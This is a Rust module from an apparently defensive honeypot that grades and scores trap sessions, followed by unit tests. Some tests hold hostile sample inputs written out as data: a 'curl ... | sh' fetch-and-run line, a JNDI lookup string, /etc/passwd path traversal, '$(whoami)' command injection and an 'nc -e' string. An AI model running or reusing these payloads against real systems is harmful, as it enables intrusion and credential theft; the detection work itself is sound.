//! Visits: what a trap session amounts to.

use crate::{
    ENTROPY_SHORT_BYTES, ENTROPY_WINDOW_BYTES, Intent, Verdict, entropy_millibits, entropy_short_max_millibits,
    entropy_window_max_millibits,
    pattern::{Found, Patterns, printable},
    shape::{is_exploit, weight, words},
};
use alloc::{borrow::Cow, format, string::String, vec::Vec};
use honeymesh_types::{Entropies, Grade, Marks, Reasons, Scope, Shape, Signs, Transport, Visit};

/// The highest score.
const SCORE_MAX: u8 = 100;
/// A completed handshake.
const SCORE_HANDSHAKE: u8 = 5;
/// It spoke.
const SCORE_PAYLOAD: u8 = 10;
/// Bytes that look encrypted or packed.
const SCORE_ENTROPY: u8 = 15;
/// From here on 256 bytes look encrypted or packed: text stays below 6,000, random bytes reach 7,170.
const ENTROPY_HIGH_MILLIBITS: u16 = 6_900;
/// From here on 64 bytes do: base64 stays below 5,600, 64 random bytes have 5,760 on the average, 6,000 is the most.
const ENTROPY_SHORT_HIGH_MILLIBITS: u16 = 5_700;

/// Known strings that weigh so much together are an attack, wherever they are said.
const ATTACK_WEIGHT_MIN: u8 = 30;

/// What each sign of a trap protocol adds to the score, and what it means.
const SIGNS: [(Signs, u8, &str); 5] = [
    (Signs::BAIT, 70, "used bait that only a thief can know"),
    (Signs::RULE, 40, "matched a rule of the trap"),
    (Signs::CREDENTIALS, 30, "tried credentials"),
    (Signs::UPLOAD, 20, "brought a file"),
    (Signs::MALFORMED, 10, "broke the protocol"),
];

/// Protocols whose first message is random by design; that it is dense says nothing.
const DENSE_BY_DESIGN: [&[u8]; 3] = [b"\x16\x03", b"SSH-", b"\x80\x80\x01"];

/// Judges visits by what was recognised in them.
#[derive(Default)]
pub struct Detector {
    patterns: Patterns,
}

impl Detector {
    /// A detector with all known attack strings.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Judges what a trap saw. A TCP visit is a finished handshake, so it is never `spoofable`; a UDP one is, since anybody can
    /// write any source on a datagram, unless it brings back what was sent to that source ([`Signs::RETURNED`]): that is a
    /// handshake, of 128 bits.
    ///
    /// What the process that parses strangers' bytes recognised is taken as it is. In a visit that no such process has seen (the
    /// kernel's program finished the handshake) known strings are searched for, in one linear pass, and nothing is decoded.
    pub fn judge_visit(&self, visit: &Visit) -> Verdict {
        let marks = visit.marks.as_ref().map_or_else(|| Cow::Owned(self.marks(visit)), Cow::Borrowed);
        let grade = grade(visit, &marks);
        let points = points(visit, &marks);
        Verdict {
            grade,
            reasons: Reasons::TRAP,
            scope: if grade == Grade::Spoofable { Scope::Dark } else { Scope::All },
            score: points.iter().map(|(points, _)| *points).fold(0, u8::saturating_add).min(SCORE_MAX),
            entropy_millibits: marks.entropy.whole,
            // What is true of every visit is no finding.
            findings: points.iter().skip(1).map(|(_, words)| words.clone()).collect(),
            reckoning: points.iter().map(|(points, words)| format!("{points} {words}")).collect(),
            intent: intent(grade, &marks),
        }
    }

    fn marks(&self, visit: &Visit) -> Marks {
        let mut found = Found::new();
        self.patterns.search(&visit.payload, &mut found);
        visit.fields.values().for_each(|value| self.patterns.search(value.as_bytes(), &mut found));
        let entropy = Entropies {
            whole: entropy_millibits(&visit.payload),
            window: entropy_window_max_millibits(&visit.payload),
            short: entropy_short_max_millibits(&visit.payload),
            sent: None,
            sent_window: None,
        };
        let shapes = found.into_iter().map(|(shape, string)| (shape, printable(string))).collect();
        Marks { shapes, rules: Vec::new(), entropy }
    }
}

fn grade(visit: &Visit, marks: &Marks) -> Grade {
    let hostile_signs = Signs::CREDENTIALS | Signs::BAIT | Signs::RULE;
    if visit.transport == Transport::Udp && !visit.signs.contains(Signs::RETURNED) {
        Grade::Spoofable
    } else if visit.signs.intersects(hostile_signs) || is_attack(marks) {
        Grade::Hostile
    } else if visit.bytes > 0 || !visit.payload.is_empty() {
        Grade::Payload
    } else {
        Grade::Handshake
    }
}

/// Whether what was recognised is an attack by itself; of the operator's rules, those that say so.
fn is_attack(marks: &Marks) -> bool {
    marks.shapes.keys().any(|shape| is_exploit(*shape)) || marks.rules.iter().any(|rule| rule.is_hostile)
}

/// Names of tools and products alone weigh little: monitors and administrators use such clients, too.
fn intent(grade: Grade, marks: &Marks) -> Intent {
    let weights = marks.shapes.keys().map(|shape| weight(*shape)).chain(marks.rules.iter().map(|rule| rule.points));
    let together = weights.fold(0, u8::saturating_add);
    if grade == Grade::Hostile || together >= ATTACK_WEIGHT_MIN { Intent::Attack } else { Intent::Unclear }
}

/// What makes up the score, each with its words: first what is true of every visit, then the signs, the shapes, the entropy.
fn points(visit: &Visit, marks: &Marks) -> Vec<(u8, String)> {
    let base = if visit.bytes > 0 { (SCORE_PAYLOAD, "it spoke") } else { (SCORE_HANDSHAKE, "it connected") };
    let signs = SIGNS.iter().filter(|(sign, ..)| visit.signs.contains(*sign)).map(|(_, points, words)| (*points, *words));
    let plain = core::iter::once(base).chain(signs).map(|(points, words)| (points, words.into()));
    let shapes = marks.shapes.iter().map(|(shape, shown)| (weight(*shape), describe(*shape, shown)));
    let rules = marks.rules.iter().map(|rule| (rule.points, format!("matched the rule {}", rule.words)));
    let dense = dense(visit, marks).map(|words| (SCORE_ENTROPY, words));
    plain.chain(shapes).chain(rules).chain(dense).collect()
}

/// One shape in words, with what showed it.
fn describe(shape: Shape, shown: &str) -> String {
    if shown.is_empty() { words(shape).into() } else { format!("{}: {shown}", words(shape)) }
}

/// Whether bytes look encrypted or packed that need not, in words.
fn dense(visit: &Visit, marks: &Marks) -> Option<String> {
    if DENSE_BY_DESIGN.iter().any(|first| visit.payload.starts_with(first)) {
        return None;
    }
    let Entropies { window, short, .. } = marks.entropy;
    let is_dense = |size, entropy, high| visit.payload.len() >= size && entropy >= high;
    if is_dense(ENTROPY_WINDOW_BYTES, window, ENTROPY_HIGH_MILLIBITS) {
        Some(dense_words("256", window))
    } else if is_dense(ENTROPY_SHORT_BYTES, short, ENTROPY_SHORT_HIGH_MILLIBITS) {
        Some(dense_words("64", short))
    } else {
        None
    }
}

fn dense_words(size: &str, millibits: u16) -> String {
    format!("looks encrypted or packed: {}.{:02} bits a byte in {size} bytes", millibits / 1_000, millibits % 1_000 / 10)
}

#[cfg(test)]
mod tests {
    use super::*;
    use alloc::{collections::BTreeMap, vec};
    use honeymesh_types::{Now, RuleMark, SessionId};

    fn visit(payload: &[u8], signs: Signs) -> Visit {
        Visit {
            at: Now::default(),
            session: SessionId(1),
            trap: "t".into(),
            service: "script".into(),
            source: "203.0.113.7:4711".parse().unwrap(),
            local: "192.0.2.1:23".parse().unwrap(),
            transport: Transport::Tcp,
            payload: payload.to_vec(),
            bytes: payload.len() as u64,
            signs,
            fields: BTreeMap::new(),
            marks: None,
        }
    }

    #[test]
    fn the_grade_follows_what_was_said() {
        let cases: [(&[u8], Signs, Grade); 11] = [
            (b"a holiday", Signs::UPLOAD, Grade::Payload),
            (b"", Signs::UPLOAD | Signs::CREDENTIALS, Grade::Hostile),
            (b"", Signs::empty(), Grade::Handshake),
            (b"", Signs::SILENT, Grade::Handshake),
            (b"hello", Signs::empty(), Grade::Payload),
            (b"\x16\x03\x01", Signs::MALFORMED, Grade::Payload),
            (b"GET / HTTP/1.1\r\nUser-Agent: masscan/1.3\r\n", Signs::empty(), Grade::Payload),
            (b"USER root\r\nPASS x\r\n", Signs::CREDENTIALS, Grade::Hostile),
            (b"x", Signs::RULE, Grade::Hostile),
            (b"x", Signs::BAIT, Grade::Hostile),
            (b"GET /../../etc/passwd HTTP/1.1", Signs::empty(), Grade::Hostile),
        ];
        for (payload, signs, expected) in cases {
            let verdict = Detector::new().judge_visit(&visit(payload, signs));
            assert_eq!((verdict.grade, verdict.scope), (expected, Scope::All), "{payload:?} {signs:?}");
        }
    }

    #[test]
    fn an_honest_client_could_have_said_it_or_not() {
        let cases: [(&[u8], Signs, Intent); 9] = [
            (b"", Signs::empty(), Intent::Unclear),
            (b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0\r\n\r\n", Signs::empty(), Intent::Unclear),
            (&[0x16, 3, 1, 2, 0, 0xff, 0x81, 7], Signs::MALFORMED, Intent::Unclear),
            (b"SSH-2.0-Go\r\n", Signs::empty(), Intent::Unclear),
            (b"GET /wp-login.php HTTP/1.1\r\n", Signs::empty(), Intent::Unclear),
            (b"GET /wp-login.php HTTP/1.1\r\nUser-Agent: nikto\r\n", Signs::empty(), Intent::Attack),
            (b"USER root\r\nPASS x\r\n", Signs::CREDENTIALS, Intent::Attack),
            (b"x", Signs::BAIT, Intent::Attack),
            (b"GET /../../etc/passwd HTTP/1.1", Signs::empty(), Intent::Attack),
        ];
        for (payload, signs, expected) in cases {
            assert_eq!(Detector::new().judge_visit(&visit(payload, signs)).intent, expected, "{payload:?} {signs:?}");
        }
    }

    #[test]
    fn a_datagram_is_forgeable_whatever_it_says() {
        let udp = Visit { transport: Transport::Udp, ..visit(b"${jndi:ldap://x}", Signs::BAIT) };
        let verdict = Detector::new().judge_visit(&udp);
        assert_eq!((verdict.grade, verdict.scope), (Grade::Spoofable, Scope::Dark));
    }

    #[test]
    fn who_brings_back_what_was_sent_to_it_is_where_it_says_it_is() {
        for (signs, grade) in [(Signs::empty(), Grade::Payload), (Signs::CREDENTIALS, Grade::Hostile)] {
            let udp = Visit { transport: Transport::Udp, ..visit(b"REGISTER", signs | Signs::RETURNED) };
            let verdict = Detector::new().judge_visit(&udp);
            assert_eq!((verdict.grade, verdict.scope), (grade, Scope::All));
        }
    }

    #[test]
    fn findings_say_what_raised_the_score() {
        let verdict = Detector::new().judge_visit(&visit(b"curl http://198.51.100.9/i | sh", Signs::CREDENTIALS));
        assert_eq!(verdict.findings, ["tried credentials", "fetches a program: curl http", "feeds a shell: | sh"]);
        assert_eq!(verdict.score, 100);
        let sum = ["10 it spoke", "30 tried credentials", "45 fetches a program: curl http", "40 feeds a shell: | sh"];
        assert_eq!(verdict.reckoning, sum);
        let brought = Detector::new().judge_visit(&visit(b"a holiday", Signs::UPLOAD));
        assert_eq!((brought.score, brought.findings), (30, vec!["brought a file".into()]));
        let quiet = Detector::new().judge_visit(&visit(b"", Signs::empty()));
        assert_eq!((quiet.score, quiet.findings.len()), (SCORE_HANDSHAKE, 0));
    }

    #[test]
    fn fields_are_searched_like_the_payload() {
        let mut ssh = visit(b"", Signs::empty());
        ssh.fields.insert("username".into(), "$(whoami)".into());
        assert_eq!(Detector::new().judge_visit(&ssh).grade, Grade::Hostile);
    }

    #[test]
    fn dense_bytes_score_and_short_ones_do_not() {
        let dense: Vec<u8> = (0..=255).collect();
        let verdict = Detector::new().judge_visit(&visit(&dense, Signs::empty()));
        assert_eq!(verdict.findings, vec!["looks encrypted or packed: 8.00 bits a byte in 256 bytes"]);
        assert_eq!((verdict.score, verdict.entropy_millibits), (SCORE_PAYLOAD + SCORE_ENTROPY, 8_000));
        let short = Detector::new().judge_visit(&visit(&dense[..200], Signs::empty()));
        assert_eq!(short.findings, vec!["looks encrypted or packed: 6.00 bits a byte in 64 bytes"]);
        assert!(Detector::new().judge_visit(&visit(&dense[..60], Signs::empty())).findings.is_empty());
        let hello = [&b"\x16\x03\x01"[..], &dense].concat();
        assert!(Detector::new().judge_visit(&visit(&hello, Signs::empty())).findings.is_empty(), "TLS is random by design");
    }

    #[test]
    fn what_was_recognised_elsewhere_is_believed_and_not_searched_for_again() {
        let shapes = BTreeMap::from([(Shape::Jndi, String::from("ldap://x"))]);
        let marks = Marks { shapes, rules: Vec::new(), entropy: Entropies { whole: 4_000, ..Entropies::default() } };
        let verdict = Detector::new().judge_visit(&Visit { marks: Some(marks), ..visit(b"../etc/passwd", Signs::empty()) });
        assert_eq!(verdict.findings, ["makes a logger load code: ldap://x"]);
        assert_eq!((verdict.grade, verdict.score, verdict.entropy_millibits), (Grade::Hostile, 70, 4_000));
    }

    #[test]
    fn an_operators_rule_adds_its_points_and_is_hostile_only_if_it_says_so_and_the_source_is_proved() {
        let rule = |points, is_hostile| RuleMark { words: "a of b.yar: words".into(), points, is_hostile };
        let judged = |rules: Vec<RuleMark>, transport| {
            let marks = Marks { rules, ..Marks::default() };
            Detector::new().judge_visit(&Visit { marks: Some(marks), transport, ..visit(b"said", Signs::empty()) })
        };
        let plain = judged(vec![rule(20, false)], Transport::Tcp);
        assert_eq!((plain.grade, plain.score, plain.intent), (Grade::Payload, 30, Intent::Unclear));
        assert_eq!(plain.findings, ["matched the rule a of b.yar: words"]);
        assert_eq!(plain.reckoning, ["10 it spoke", "20 matched the rule a of b.yar: words"]);
        let two = judged(vec![rule(15, false), rule(15, false)], Transport::Tcp);
        assert_eq!((two.grade, two.intent), (Grade::Payload, Intent::Attack), "together they weigh as much as an attack");
        let hostile = judged(vec![rule(0, true)], Transport::Tcp);
        assert_eq!((hostile.grade, hostile.score, hostile.intent), (Grade::Hostile, 10, Intent::Attack));
        let forged = judged(vec![rule(100, true)], Transport::Udp);
        assert_eq!((forged.grade, forged.scope), (Grade::Spoofable, Scope::Dark), "whoever forges a source is no proof");
    }

    #[test]
    fn the_score_is_bounded() {
        let all: Vec<u8> = [&b"${jndi: nc -e /etc/passwd ../ wget http | sh base64 -d union select "[..], &[0x90; 32]].concat();
        assert_eq!(Detector::new().judge_visit(&visit(&all, Signs::all())).score, 100);
    }
}
